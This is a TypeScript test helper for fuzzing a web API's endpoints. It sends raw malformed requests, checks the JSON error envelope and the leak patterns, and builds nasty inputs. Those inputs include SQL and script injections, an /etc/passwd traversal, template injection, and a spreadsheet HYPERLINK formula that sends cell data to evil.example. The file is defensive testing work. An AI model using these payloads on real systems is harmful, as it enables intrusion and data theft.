import http from 'node:http';
import fc from 'fast-check';
import writeXlsxFile from 'write-excel-file/node';
import { ERROR_STATUS } from '../../../src/shared/api/envelope';
import type { Endpoint } from '../../../src/shared/api/endpoint';

/** One request as sent on the wire: the path is sent as written (no URL normalisation). */
export interface RawRequest {
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: Buffer | string;
  /** What the request tries, for the failure report. */
  attack: string;
}

export interface RawResponse {
  status: number;
  headers: http.IncomingHttpHeaders;
  text: string;
  ms: number;
}

const agent = new http.Agent({ keepAlive: true, maxSockets: 8 });

/** Closes the kept-alive sockets, so that the server can close. */
export const closeConnections = () => agent.destroy();

/**
 * Sends a request with node:http rather than fetch, which would resolve `.` and `..`
 * segments and refuse some of the malformed requests the fuzz is about.
 */
export function send(baseUrl: string, request: RawRequest): Promise<RawResponse> {
  const url = new URL(baseUrl);
  const started = performance.now();
  return new Promise((resolve, reject) => {
    const req = http.request(
      {
        host: url.hostname,
        port: url.port,
        method: request.method,
        path: request.path,
        headers: {
          ...request.headers,
          ...(request.body !== undefined
            ? { 'Content-Length': String(Buffer.byteLength(request.body)) }
            : {}),
        },
        agent,
      },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (chunk: Buffer) => chunks.push(chunk));
        res.on('end', () =>
          resolve({
            status: res.statusCode ?? 0,
            headers: res.headers,
            text: Buffer.concat(chunks).toString('utf8'),
            ms: performance.now() - started,
          }),
        );
        res.on('error', reject);
      },
    );
    req.on('error', (error: NodeJS.ErrnoException) => {
      // The server may answer an oversized body early and close before it is all sent.
      if (error.code === 'EPIPE' || error.code === 'ECONNRESET')
        resolve({ status: -1, headers: {}, text: error.code, ms: performance.now() - started });
      else reject(error);
    });
    if (request.body !== undefined) req.write(request.body);
    req.end();
  });
}

// Internals a failure must never show: SQL, driver names, stack frames, source paths.
const LEAK =
  /\b(select\s.+\sfrom|insert\s+into|update\s.+\sset|delete\s+from)\b|sqlite|postgres|syntax error|node_modules|\/src\/server|\bat\s.+:\d+:\d+|stack/i;

/** Why an answer breaks the API's rules (null when it keeps them). */
export function problemWith(request: RawRequest, response: RawResponse): string | null {
  if (response.status === -1) return null;
  if (response.status >= 500) return `answered ${response.status}`;
  const type = String(response.headers['content-type'] ?? '');
  const isError = response.status >= 400;
  if (!isError && !type.startsWith('application/json')) {
    // Exports and a receipt's PDF answer a file; nothing else may answer outside JSON.
    const path = request.path.split('?')[0] + '?';
    return /\/export\?$/.test(path) || /\/invoices\/\d+\/pdf\?$/.test(path)
      ? null
      : `answered ${type}`;
  }
  let body: Record<string, unknown>;
  try {
    body = JSON.parse(response.text) as Record<string, unknown>;
  } catch {
    return `answered ${response.status} with a body that is not JSON: ${response.text.slice(0, 80)}`;
  }
  if (!isError) return body.status === 'ok' ? null : 'a success outside the envelope';
  if (body.status !== 'error' || typeof body.error !== 'string' || typeof body.message !== 'string')
    return `answered ${response.status} outside the envelope: ${response.text.slice(0, 120)}`;
  if (!(body.error in ERROR_STATUS)) return `unknown error code ${body.error}`;
  if (body.message.trim() === '') return 'an error without a message';
  if (LEAK.test(body.message)) return `leaks internals: ${body.message.slice(0, 120)}`;
  return null;
}

/** The keys an endpoint's zod object schema declares (empty when it is not an object). */
export function schemaKeys(schema: unknown): string[] {
  let current = schema as { shape?: Record<string, unknown>; def?: Record<string, unknown> };
  for (let i = 0; i < 5 && current; i++) {
    if (current.shape && typeof current.shape === 'object') return Object.keys(current.shape);
    const def = current.def as { innerType?: unknown; in?: unknown; schema?: unknown } | undefined;
    current = (def?.innerType ?? def?.in ?? def?.schema) as typeof current;
  }
  return [];
}

export const BAD_IDS = [
  '-1',
  '0',
  '2147483648',
  '99999999999999999999999',
  '1e309',
  'abc',
  '%2F',
  '%2e%2e',
  '..',
  '',
  '%00',
  '%',
];
export const BAD_ROLES = ['root', '%00', '.'];

/** Strings that broke servers before: empty, huge, NUL and other controls, RTL, emoji, injections. */
export const nastyString = fc.oneof(
  fc.constantFrom(
    '',
    ' ',
    'x'.repeat(100_000),
    '\u0000',
    'a\u0000b',
    '\u0001\u001f',
    '\t\r\n',
    '\u202eevil\u202c',
    'مرحبا بالعالم',
    '👩‍👩‍👧‍👦🎉',
    '\ud800',
    "' OR 1=1 --",
    '"; DROP TABLE users; --',
    '<script>alert(1)</script>',
    '../../etc/passwd',
    '${7*7}{{7*7}}',
    '=HYPERLINK("http://evil.example/?"&A1,"Details")',
    '+cmd',
    '-1+2',
    '@SUM(A1)',
    '1e309',
    '-0',
    '2024-02-30',
    '25:61',
    'null',
    '__proto__',
  ),
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 20 }),
);

const nastyNumber = fc.constantFrom(
  -1,
  0,
  1,
  1.5,
  2147483648,
  Number.MAX_SAFE_INTEGER,
  1e308,
  -1e308,
);

/** Any JSON value, wrong types included. */
export const nastyValue: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  value: fc.oneof(
    { depthSize: 'small' },
    nastyString,
    nastyNumber,
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.constant(Array.from({ length: 1000 }, () => 'client')),
    fc.constant(['client', 'client']),
    fc.dictionary(fc.string({ maxLength: 8 }), tie('value'), { maxKeys: 3 }),
  ),
})).value;

/** A JSON body built from the schema's keys: some missing, some of a wrong type, some extra. */
export function bodyFor(keys: string[]): fc.Arbitrary<Record<string, unknown>> {
  const names = [...keys, 'extra_field', 'school_id', 'id', 'constructor'];
  return fc.dictionary(fc.constantFrom(...names), nastyValue, { maxKeys: names.length });
}

/** JSON nested `depth` levels, built without recursion. */
export const deeplyNested = (depth: number) => `${'{"a":['.repeat(depth)}1${']}'.repeat(depth)}`;

export async function validXlsx(): Promise<Buffer> {
  return writeXlsxFile([
    [{ value: 'First name' }, { value: 'Last name' }],
    [{ value: 'Ana' }, { value: 'Test' }],
  ]).toBuffer();
}

/** Malformed multipart bodies, each with the content type it is sent under. */
export function multipartAttacks(xlsx: Buffer): { name: string; type: string; body: Buffer }[] {
  const part = (boundary: string, filename: string, content: Buffer, close = true) =>
    Buffer.concat([
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\n`,
      ),
      content,
      Buffer.from(close ? `\r\n--${boundary}--\r\n` : ''),
    ]);
  return [
    { name: 'multipart without boundary', type: 'multipart/form-data', body: Buffer.from('x') },
    {
      name: 'multipart with the wrong boundary',
      type: 'multipart/form-data; boundary=other',
      body: part('zzz', 'a.xlsx', xlsx),
    },
    {
      name: 'multipart cut short',
      type: 'multipart/form-data; boundary=zzz',
      body: part('zzz', 'a.xlsx', xlsx, false).subarray(0, 200),
    },
    {
      name: 'xlsx that is not a zip',
      type: 'multipart/form-data; boundary=zzz',
      body: part('zzz', 'a.xlsx', Buffer.from('this is not a zip file')),
    },
    {
      name: 'truncated xlsx',
      type: 'multipart/form-data; boundary=zzz',
      body: part('zzz', 'a.xlsx', xlsx.subarray(0, Math.floor(xlsx.length / 2))),
    },
    {
      name: 'csv with NUL bytes',
      type: 'multipart/form-data; boundary=zzz',
      body: part('zzz', 'a.csv', Buffer.from('First name,Last name\r\nA\u0000na,Test\r\n')),
    },
  ];
}

export type { Endpoint };
